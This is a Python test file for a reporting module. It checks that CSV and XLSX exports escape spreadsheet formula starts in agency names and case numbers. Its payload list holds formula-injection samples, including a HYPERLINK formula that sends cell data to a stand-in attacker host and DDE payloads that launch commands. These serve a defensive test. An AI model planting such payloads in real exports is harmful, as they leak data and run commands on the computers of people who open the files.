"""No text an office or an applicant typed becomes a formula in the report's CSV or XLSX.

Every free-text field that reaches an export (the agency's name, case numbers, which the
checks and the late-recorded rows list) carries each of OWASP's formula starts; the CSV
shows them behind an apostrophe, the XLSX holds them as plain strings, numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from tests.reporting.casebook import Entry, write
from tests.stores import TODAY, TestApplication
from workflow.reporting import ReportRequest, annual_report, resolve_scope, to_csv, to_xlsx
from workflow.reporting.report import AnnualReport
from workflow.spreadsheet_cells import FORMULA_STARTS, csv_text
from workflow.store.records import AgencyRecord

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _report(app: TestApplication, payload: str) -> AnnualReport:
    with app.database.transaction() as session:
        session.execute(
            update(AgencyRecord).where(AgencyRecord.code == "zbgd").values(name=payload)
        )
    # Registered in 2023, recorded only in 2024: the report lists it among the late cases.
    write(
        app.database,
        [
            Entry(payload, date(2023, 5, 1), recorded_on=date(2024, 6, 1)),
            Entry(
                "zbgd-2023-0001",
                date(2023, 5, 2),
                closed_on=date(2023, 5, 20),
                outcome="disclosed.provided",
            ),
        ],
    )
    with app.database.reading() as session:
        scope = resolve_scope(session, "zbgd")
        return annual_report(session, app.registry, scope, ReportRequest(2023, TODAY))


@pytest.mark.parametrize("payload", PAYLOADS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_csv_cells_never_start_a_formula(app: TestApplication, payload: str) -> None:
    report = _report(app, payload)
    cells = [cell for row in csv.reader(io.StringIO(to_csv(report))) for cell in row]
    assert "'" + payload in cells  # the case number, listed, behind an apostrophe
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert "1" in cells  # a count stays a bare number


@pytest.mark.parametrize("payload", PAYLOADS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_xlsx_text_is_never_a_formula(app: TestApplication, payload: str) -> None:
    report = _report(app, payload)
    workbook = load_workbook(io.BytesIO(to_xlsx(report)))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    unsafe = [cell for cell in texts if cell.value.startswith(FORMULA_STARTS)]
    # The agency's name (in each table's subtitle) and the case number, kept as typed.
    assert any(cell.value == payload for cell in unsafe)
    assert any(cell.value.startswith(payload + " 2023年") for cell in unsafe)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in unsafe)
    numbers = [cell.value for cell in cells if cell.data_type == "n" and cell.value is not None]
    assert numbers
    assert all(isinstance(value, int) for value in numbers)


def test_only_text_that_could_start_a_formula_changes() -> None:
    assert csv_text("=1+1") == "'=1+1"
    assert csv_text("-") == "'-"
    assert csv_text("zbgd-2023-0001") == "zbgd-2023-0001"
    assert csv_text("淄博 =1") == "淄博 =1"
    assert csv_text("") == ""
    assert csv_text(-5) == -5
    assert csv_text(3) == 3
